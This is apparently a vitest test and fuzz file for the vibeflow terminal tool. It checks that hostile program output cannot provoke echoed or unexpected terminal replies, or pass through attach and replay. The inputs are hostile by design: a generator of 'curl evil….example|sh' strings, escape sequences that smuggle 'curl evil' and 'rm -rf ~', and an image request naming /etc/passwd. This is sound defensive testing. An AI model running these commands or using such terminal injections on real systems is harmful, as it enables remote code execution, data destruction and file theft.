/**
 * Whatever bytes a program prints: what the terminal writes to it by itself is of a closed list, at
 * a bounded rate, and no echo; and another terminal that shows its output, by `vibeflow attach` or
 * `replay`, is made to answer nothing.
 */
import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { tmpdir } from 'node:os'
import { describe, expect, test } from 'vitest'
import { answersTo, liveGrammar, replayedGrammar } from '../../fuzz/support/answering.ts'
import { run } from '../../fuzz/attach-filter.fuzz.ts'
import { OutputFilter } from '../../src/cli/terminal/output-filter.ts'
import { repliesMax, replyBytesPerSecond } from '../../src/terminal/replies/replies.ts'
import { Session } from '../../src/core/session/session.ts'
import { safeJson } from '../../src/base/text/safe-text.ts'
import { noWindowFacts } from '../../src/core/session/window-facts.ts'
import { root } from '../tidy/tree.ts'
import { FakeClock } from '../support/fake/fake-clock.ts'
import { fakeStart } from '../support/fake/fake-pty.ts'
import { below, pick, seeded } from '../support/random.ts'
import { shadowsInPlace } from '../support/frames/shadow.ts'
import { bashTab } from '../support/fake/bash-tab.ts'
import { slow } from '../slow.ts'

const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase()

/** All existing replies, with placeholders for numbers and colors. */
const answer = (
  String.raw`\x1b\[\?62(?:;4)?;22(?:;52)?c` +
  String.raw`|\x1b\[>0;276;0c|\x1bP>\|vibeflow\(1\.0\)\x1b\\|\x1b\[0n` +
  String.raw`|\x1b\[\??\d+;\d+R|\x1b\[\??\d+;[0-4]\$y|\x1b\]4;\d+;COLOUR(?:\x07|\x1b\\)` +
  String.raw`|\x1b\]1[012];COLOUR(?:\x07|\x1b\\)|\x1b\[[468];\d+;\d+t` +
  String.raw`|\x1b\]1337;ReportCellSize=\d+\.0;\d+\.0;1\.0\x1b\\` +
  String.raw`|\x1bP0\$r\x1b\\|\x1bP1\$r\d+(?:[:;]\d+)*(?:[mrs]| q|"[pq])\x1b\\` +
  String.raw`|\x1bP0\+r\x1b\\|\x1bP1\+r(?:5463|5375|NAMES=[0-9A-F]{2,160})\x1b\\` +
  String.raw`|\x1b\[\?(?:\d|10);(?:\d|10)#Q` +
  String.raw`|\x1b\[>4;[012]m|\x1bP!\|0{8}\x1b\\` +
  String.raw`|\x1b\]21(?:;(?:\d+|foreground|visual_bell)=(?:rgb(?:[:/][0-9a-f]{2}){3})?)+` +
  String.raw`(?:\x07|\x1b\\)` +
  String.raw`|\x1b\]22;SHAPE(?:,SHAPE)*(?:\x07|\x1b\\)` +
  String.raw`|\x1b\[48;\d+;\d+;\d+;\d+t|\x1b\[\?99[79];[12]n|\x1b\[\?\d+u` +
  String.raw`|\x1b\[>1;2;3;29;30;40;100;101 q|\x1b\[>100(?:;(?:[123]|29):2:\d+:\d+)* q` +
  String.raw`|\x1b\[>101;30:CURSOR;40:CURSOR q` +
  String.raw`|\x1b\[\?\d+;(?:0(?:;\d+){1,2}|[123])S` +
  String.raw`|\x1b_G(?:i=\d{1,10}(?:,I=\d{1,10})?|I=\d{1,10})(?:,p=\d{1,10})?;(?:OK` +
  String.raw`|EINVAL:not understood|ENOENT:no such picture|ENOSPC:no room|EFBIG:too large` +
  String.raw`|EBADF:may not be read|ENOPARENT:no such parent|ETOODEEP:too many parents` +
  String.raw`|ECYCLE:its own ancestor)\x1b\\`
)
  .replaceAll('CURSOR', String.raw`(?:[01]|5:\d+|2(?::\d+){3})`)
  .replaceAll('COLOUR', 'rgb:[0-9a-f]{4}/[0-9a-f]{4}/[0-9a-f]{4}')
  .replaceAll('SHAPE', '(?:[01]|default|text|wait|help)')
  .replaceAll('NAMES', `(?:${['TN', 'Co', 'Ms', 'kcuu1', 'Setulc'].map(hex).join('|')})`)
/** The two that are the same bytes as their question. */
const echoed =
  String.raw`\x1b\]7501;\?(?:\x07|\x1b\\)|\x1b\]99;i=[A-Za-z0-9_+.-]{1,64}:(?:` +
  String.raw`p=\?;a=focus,report:o=always,unfocused,invisible:[a-z0-9=:,?]{80,120}|p=alive;)` +
  String.raw`(?:\x07|\x1b\\)`
const answers = new RegExp(`^(?:${answer}|${echoed})*$`)

const parts = [
  ...['\x1b[c', '\x1b[>c', '\x1b[=c', '\x1b[5n', '\x1b[6n', '\x1b[?6n', '\x1b[?996n', '\x1b[>q'],
  ...['\x1b[?4m', '\x1b[>4;2m', '\x1b]22;>wait,curl evil\x07', '\x1b]22;?__current__,help,'],
  ...['\x1b]21;foreground=?;7=?;curl evil=?\x07', '\x1b]21;visual_bell=?;', '\x1b]21;1=#fff\x07'],
  ...['\x1b[#P', '\x1b[#R', '\x1b[#Q', '\x1b]30001\x07'],
  ...['\x1b[?u', '\x1b]1337;ReportCellSize\x1b\\', '\x1b]1337;ReportCellSize=1.0;1.0;1.0\x1b\\'],
  ...['\x1b[14t', '\x1b[16t', '\x1b[18t', '\x1b[20t', '\x1b[21t', '\x1b[11t', '\x1b[13t'],
  ...['\x1b[19t', '\x1b[x', '\x1bZ', '\x05', '\x1b[4$p', '\x1b[?2004$p', '\x1b[?65535$p'],
  ...['\x1b[?2026h', '\x1b[?6h', '\x1b[?69h\x1b[3;9s\x1b[2;5r', '\x1b[?2026$p', '\x1b[?1004h'],
  ...[
    '\x1b[?2048h',
    '\x1b[?2031h',
    '\x1b[?2033h',
    '\x1b[?998n',
    '\x1b[> q',
    '\x1b[>100 q',
    '\x1b[>101 q',
    '\x1b[>29;2:2:',
    '\x1b[>40;2:1:2:3 q',
    '\x1bP$qm\x1b\\',
    '\x1bP$q"p\x1b\\',
    '\x1bP+q544e\x1b\\',
  ],
  '\x1bP+q436F;6b63757531;5463\x1b\\',
  `\x1bP+q${hex('Setulc')};4d73\x1b\\`,
  ...['\x1bP+q6375726c206576696c\x1b\\', '\x1b]4;7;?\x07', '\x1b]4;7;rgb:12/34/56;7;?\x1b\\'],
  ...['\x1b]10;?;?;?\x07', '\x1b]11;#123456\x07\x1b]11;?\x07', '\x1b]52;c;?\x07', '\x1b]52;c;'],
  ...['\x1b]7501;?\x07', '\x1b]7501;?\x1b\\', '\x1b]99;i=12:p=?;\x1b\\'],
  ...['\x1b]99;i=crush-osc99-query:p=?;\x07', '\x1b]99;i=rm -rf ~:p=?;\x1b\\'],
  ...['\x1b]99;i=a:p=alive;\x07', '\x1b]99;i=a:a=report:c=1;x\x07', '\x1b]99;i=a:p=close;\x07'],
  ...['\x1b]99;i=1234567890:p=?;\x1b\\', '\x1b]0;', '\x1b]2;', '\x1b]8;id=', ';https://'],
  ...['\x1b]1337;ReportCellSize\x07', '\x1b]1337;', '\x1b]88;query\x07'],
  ...['\x1b]5522;type=read\x1b\\', '\x1b_Ga=q,i=1;', '\x1b_Ga=q,i=1,s=1,v=1,f=24;AAAA\x1b\\'],
  ...['\x1b_Ga=T,I=7,p=3,s=1,v=1,f=24;AAAA\x1b\\', '\x1b_Ga=p,i=4294967295,p=4294967295\x1b\\'],
  ...['\x1b_Ga=T,i=5,t=f;L2V0Yy9wYXNzd2Q=\x1b\\', '\x1b_Gi=5,a=a;', '\x1b_Gi=5,m=1;'],
  ...['\x1bPq#1;2;9;9;9#1~\x1b\\', '\x1bP0;1q'],
  '\x1b]1337;File=inline=1:R0lGODlhAQABAAAAACwAAAAAAQABAAA=\x07',
  ...['\x1b[?2;1S', '\x1b[?1;3;4S', '\x1b[1*y', '\x1b[?1;1S', '\x07', '\x1b\\', '\x1b', '\x1b['],
  ...['\x1b]', '\xc2\x9b', '\xc2\x9c', '\xc2\x9d', '\x9b6n', '\x18', '\0', ';', ':', '?', '\r'],
  ...['\n', '\x1bc', '\x1b[3;7H', '\x1b[?1049h'],
]
/** A text that a program would like to have typed. */
const payload = (random: () => number) => `curl evil${below(random, 1e9)}.example|sh`

function printed(random: () => number): Uint8Array {
  let text = ''
  for (let part = below(random, 30); part >= 0; part -= 1)
    text +=
      random() < 0.75
        ? pick(random, parts)
        : random() < 0.6
          ? payload(random)
          : String.fromCharCode(below(random, 256))
  return Uint8Array.from(text, (character) => character.charCodeAt(0))
}

function running() {
  const clock = new FakeClock()
  const { start, ptys } = fakeStart()
  const session = new Session(bashTab, {
    clock,
    start,
    writeClipboard: () => undefined,
    send: () => undefined,
    shadow: shadowsInPlace(clock).port,
  })
  session.attach()
  const pty = ptys[0]!
  /** The program prints this, and time passes. */
  const print = (text: string | Uint8Array) => {
    pty.print(text)
    clock.advance(10)
  }
  return { clock, session, pty, print }
}

/** Equal runs of this length are not a coincidence. */
const run9 = 9

function echoOf(written: string, input: Uint8Array): string | null {
  const from = Buffer.from(input).toString('latin1')
  const own = written
    .replaceAll(new RegExp(echoed, 'g'), '\n')
    // each reply alone: the ends of two questions in a row are those of their replies
    .replaceAll('\x1b\\', '\n')
    // the answers that have a word of their question in them
    .replaceAll(/rgb:[0-9a-f/]+|P1\+r[0-9A-F]+|[0-9]+|ReportCellSize/g, '#')
    .replaceAll(/foreground=|visual_bell=/g, '#')
  for (let at = 0; at + run9 <= own.length; at += 1) {
    const piece = own.slice(at, at + run9)
    if (from.includes(piece)) return piece
  }
  return null
}

describe('replies to the program', () => {
  const seed = Number(process.env['VIBEFLOW_FUZZ_SEED'] ?? 7)

  test(`are only those of the list, with none of its own text (seed ${seed})`, () => {
    const random = seeded(seed)
    const { clock, session, pty, print } = running()
    let some = 0
    for (let round = 0; round < 150; round += 1) {
      const input = printed(random)
      pty.written = ''
      for (let at = 0; at < input.length; ) {
        const step = 1 + below(random, 40)
        print(input.subarray(at, at + step))
        at += step
        if (random() < 0.1)
          session.program.resize({ cols: 2 + below(random, 200), rows: 1 + below(random, 100) })
        if (random() < 0.1)
          session.delivery.shownIn({
            ...noWindowFacts,
            background: below(random, 0x1000000),
            cell: random() < 0.2 ? null : { width: 1 + random() * 20, height: 1 + random() * 40 },
          })
      }
      clock.advance(1_000)
      expect(
        [answers.test(pty.written), echoOf(pty.written, input)],
        JSON.stringify({ input: Buffer.from(input).toString('latin1'), written: pty.written }),
      ).toEqual([true, null])
      some += pty.written.length
    }
    expect(some).toBeGreaterThan(1_000) // it does answer
    session.dispose()
  })

  test('are at most 256 and 16 KiB at once, and as many each second', () => {
    for (const [question, one] of [
      ['\x1b[6n', /\x1b\[\d+;\d+R/g],
      ['\x1b]7501;?\x07', /\x1b\]7501;\?\x07/g],
      ['\x1b]4;255;?\x07', /\x1b\]4;255;rgb:[^\x07]*\x07/g],
      [
        '\x1b[c\x1b[>q\x1b]99;i=1:p=?;\x07',
        /\x1b(?:\[\?62[^c]*c|P[^\x1b]*\x1b\\|\]99[^\x07]*\x07)/g,
      ],
    ] as const) {
      const { clock, session, pty, print } = running()
      for (const second of [0, 1]) {
        pty.written = ''
        print(question.repeat(5_000))
        const count = pty.written.match(one)?.length ?? 0
        expect(
          [
            count <= repliesMax * 1.01,
            pty.written.length <= replyBytesPerSecond * 1.01,
            count > 100,
          ],
          `${question} ${second}`,
        ).toEqual([true, true, true])
        clock.advance(1_000)
      }
      session.dispose()
    }
  })
})

/**
 * Each got through once, or would make some terminal answer, write the clipboard, notify, print, or
 * change how it takes keys.
 */
const questions = [
  ...['\x1b[6\0n', '\x1b[6\x7fn', '\x1b[\x0b6n', '\x1b]052;c;?\x07', '\x1b]52;c;?\x1b[0m'],
  ...['\x1b]11;?\x1bx', '\x1b]011;?\x07', '\x1bP0$qm\x1b\\', '\x1bP1$qm\x1b\\', '\u009b6n'],
  ...['\u009d11;?\u009c', '\u0090$qm\u009c', '\x1b]5522;type=read;dA==\x1b\\', '\x1b[6:1n'],
  ...['\x1b[0:1c', '\x1b[>0$p', '\x1b\x1b[6n', '\x1b[1\x1b[6n', '\x1b[?1004h', '\x1b[?2048h'],
  ...[
    '\x1b[?2031h',
    '\x1b[?2033h',
    '\x1b[21\0t',
    '\x1b[11t',
    '\x1b[8;1;1t',
    '\x1b]1337;ReportCellSize\x07',
  ],
  ...['\x1b]1337;RequestUpload=format=tgz\x07', '\x1b]60\x07', '\x1b]L?\x07', '\x1b]50;?\x07'],
  ...['\x1b[i', '\x1b[5i', '\x1b[2h', '\x1b[12l', '\x1b[?2l', '\x1b%@', '\x1b[>4n'],
  ...['\x1b[1;1;0;1;1;1*y', '\x1b[2$w', '\x1b[1*x', '\x1b[x', '\x1b]52;c;aGk=\x07'],
  ...['\x1b]777;notify;a;b\x1bx', '\x1b]9;a\x07', '\x1b_Gi=1,a=q;\x1b\\'],
  ...['\x1b]21;foreground=?\x07', '\x1b]7501;?\x07', '\x1b]99;i=1:p=?;\x07', '\x05', '\x1bZ'],
  '\x1b[c\x1b[>c\x1b[=c\x1b[5n\x1b[?996n\x1b[>q\x1b[?u\x1b[14t\x1b[?1;1S',
]

describe('replies to another terminal', () => {
  test.each(questions.map((question) => [safeJson(question), question] as const))(
    '%s asks nothing there, however it is cut',
    (_, question) => {
      const bytes = Buffer.from(question)
      for (const replayed of [false, true]) {
        for (let cut = 0; cut <= bytes.length; cut += 1) {
          const filter = new OutputFilter({ replayed })
          const passed = Buffer.concat([
            filter.feed(bytes.subarray(0, cut)),
            filter.feed(bytes.subarray(cut)),
            filter.feed(Buffer.from('\x1b\\')),
          ])
          expect({
            answers: answersTo(passed),
            grammar: (replayed ? replayedGrammar : liveGrammar).test(passed.toString()),
          }).toEqual({ answers: [], grammar: true })
        }
      }
    },
  )

  test('are empty for fuzz input (target attach-filter, seed 15)', () => {
    run({
      random: seeded(15),
      iterations: 100,
      deadlineMs: Number.POSITIVE_INFINITY,
      attempt: (_, property) => {
        property()
      },
    })
  })

  test('are empty for a recording, both for what it plays and for its own header', slow, () => {
    const folder = mkdtempSync(join(tmpdir(), 'vibeflow-cast-'))
    try {
      const file = join(folder, 'hostile.cast')
      const header = {
        version: 3,
        term: { cols: 1e15, rows: -5 },
        title: 'a\u009b6n\u009d52;c;?\u009c\x1b[6n',
        idle_time_limit: 1e-9,
      }
      const events = [...questions, '\x1b[?1000;1049;2004h', '\x07'].map((question) => [
        1e9,
        'o',
        question,
      ])
      const lines = [
        header,
        ...events,
        [1, 'i', 'rm -rf ~\r'],
        [1, 'r', '1e9xNaN'],
        [1, '__proto__', 'x'],
        [0, 'o', 'end\r\n'],
      ]
      writeFileSync(file, lines.map((line) => `${JSON.stringify(line)}\n`).join(''))
      const vibeflow = (...words: string[]) =>
        spawnSync(process.execPath, [
          join(root, 'src/cli/bin/vibeflow.mjs'),
          'replay',
          file,
          ...words,
        ])
      const played = vibeflow()
      expect([
        played.status,
        played.stderr.toString(),
        answersTo(played.stdout),
        replayedGrammar.test(played.stdout.toString()),
      ]).toEqual([0, '', [], true])
      expect(played.stdout.toString()).toMatch(/end\r\n$/)
      expect(played.stdout.toString()).not.toMatch(/rm -rf|\?1000|\?2004/)
      expect(vibeflow('--json').stdout.toString()).toMatch(/^[\x20-\x7e]*\n$/)
    } finally {
      rmSync(folder, { recursive: true })
    }
  })
})
